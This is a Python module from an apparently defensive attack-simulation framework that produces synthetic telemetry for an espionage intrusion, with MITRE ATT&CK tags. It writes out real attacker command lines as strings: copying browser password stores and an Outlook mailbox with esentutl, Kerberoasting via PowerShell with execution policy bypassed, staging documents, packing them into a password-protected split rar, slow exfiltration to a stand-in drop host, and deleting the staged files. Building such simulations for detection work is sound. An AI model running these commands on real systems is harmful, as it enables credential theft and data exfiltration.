"""What spies come for: passwords of the browser and of services, mail, documents, and a slow way out for them."""

from vedette.simulation.actors.intrusion.keyboard import Keyboard
from vedette.simulation.actors.intrusion.side_load import FOLDER
from vedette.simulation.telemetry.logons import ask_for_ticket
from vedette.simulation.telemetry.network import Endpoint, device_endpoint, reach
from vedette.simulation.telemetry.objects import create_file
from vedette.simulation.world import Process, World

DROP_SITE = Endpoint("archive.north-quay-forum.example", "198.51.100.140")
_SERVICES = ("svc-backup", "svc-deploy", "svc-print", "svc-ledger")


def take_browser_passwords(keyboard: Keyboard) -> None:
    """The store is open in the browser, so a tool that reads locked files copies it."""
    world, home = keyboard.world, keyboard.session.account.home
    with world.step("The browser's store of passwords is copied", "credential-access", "T1555.003", "T1539"):
        store = f"{home}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Login Data"
        copier = keyboard.type("esentutl.exe", f'esentutl.exe /y "{store}" /d {FOLDER}\\l.dat', seconds=2)
        create_file(world, copier, f"{FOLDER}\\l.dat", keyboard.at - 1)


def ask_for_service_tickets(keyboard: Keyboard) -> None:
    """Tickets for accounts of services, to be broken at home."""
    world, account = keyboard.world, keyboard.session.account
    controller = world.with_role("domain controller")[0]
    with world.step("Tickets for services are asked for", "credential-access", "T1558.003"):
        asker = keyboard.type("powershell.exe", f"powershell -ep bypass -f {FOLDER}\\t.ps1", seconds=20)
        reach(world, asker, device_endpoint(controller, 88), keyboard.at - 19)
        for number, service in enumerate(_SERVICES):
            at = keyboard.at - 18 + 4 * number
            ask_for_ticket(world, controller, account, service, at, caller=keyboard.device)


def collect_mail(keyboard: Keyboard, owner: str) -> None:
    """The mailbox of the device's owner, copied from a snapshot because the mail program holds it open."""
    world = keyboard.world
    with world.step("A mailbox is copied", "collection", "T1114.001", "T1074.001"):
        mailbox = f"C:\\Users\\{owner}\\AppData\\Local\\Microsoft\\Outlook\\{owner}.ost"
        command = f"esentutl.exe /y {mailbox} /d C:\\PerfLogs\\m.dat /vss"
        copier = keyboard.type("esentutl.exe", command, seconds=50)
        create_file(world, copier, "C:\\PerfLogs\\m.dat", keyboard.at - 45)


def collect_documents(keyboard: Keyboard, share: str) -> None:
    """Documents younger than a year, gathered in one folder."""
    world = keyboard.world
    with world.step("Documents are gathered", "collection", "T1005", "T1039", "T1119"):
        command = f"robocopy {share} C:\\PerfLogs\\d *.docx *.pdf *.xlsx /s /maxage:365"
        gatherer = keyboard.type("Robocopy.exe", command, seconds=120)
        for number in range(12):
            create_file(world, gatherer, f"C:\\PerfLogs\\d\\plan {number:02}.docx", keyboard.at - 118 + 9 * number)


def pack_in_parts(keyboard: Keyboard) -> None:
    """An archive with a password, in small parts."""
    world = keyboard.world
    with world.step("Everything is packed with a password", "collection", "T1560.001", "T1074.001"):
        tool = "C:\\PerfLogs\\rar.exe"
        create_file(world, keyboard.shell, tool, keyboard.think())
        command = "rar.exe a -hpNq7rTz -v5m -r C:\\PerfLogs\\w.rar C:\\PerfLogs\\d C:\\PerfLogs\\m.dat"
        packer = keyboard.type(tool, command, seconds=90)
        for part in range(1, 9):
            create_file(world, packer, f"C:\\PerfLogs\\w.part{part}.rar", keyboard.at - 88 + 10 * part)


def send_in_slices(world: World, sender: Process, first: float, last: float) -> None:
    """Part after part, a while between them, by the connection that looks like all others."""
    with world.step("Parts leave one by one", "exfiltration", "T1041", "T1030"):
        pause = (last - first) / 9
        for part in range(8):
            reach(world, sender, DROP_SITE, first + pause * part)


def remove_collection(keyboard: Keyboard) -> None:
    """The gathered files are removed, with nothing else touched."""
    with keyboard.world.step("What was gathered is removed", "stealth", "T1070.004"):
        keyboard.type(
            "cmd.exe", "cmd /c rd /s /q C:\\PerfLogs\\d & del /q C:\\PerfLogs\\w.part*.rar C:\\PerfLogs\\m.dat"
        )
